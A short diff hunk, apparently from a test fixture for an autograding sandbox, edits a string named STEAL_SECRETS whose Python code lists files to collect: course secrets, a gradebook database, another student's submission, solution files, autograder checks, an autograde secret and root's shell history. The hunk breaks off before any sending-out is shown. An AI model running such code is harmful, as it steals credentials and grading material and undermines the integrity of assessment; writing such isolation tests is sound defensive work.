@@ -173,7 +173,7 @@ STEAL_SECRETS = """
 import os, time
 LOOT = []
 targets = ["@@COURSE@@/course-secret.txt", "@@COURSE@@/gradebook.db", "@@COURSE@@/submitted/bob/rmsnorm/rmsnorm.ipynb",
-           "@@REPO@@/solutions/rmsnorm.py", "@@REPO@@/autograder/checks/test_rmsnorm.py",
+           "@@REPO@@/solutions/rmsnorm.py", "@@REPO@@/autograder/checks/rmsnorm.py",
            "@@REPO@@/assignments/rmsnorm/rmsnorm.ipynb", "@@REPO@@/.autograde-secret", "/root/.bash_history"]
 for path in targets:
     try:
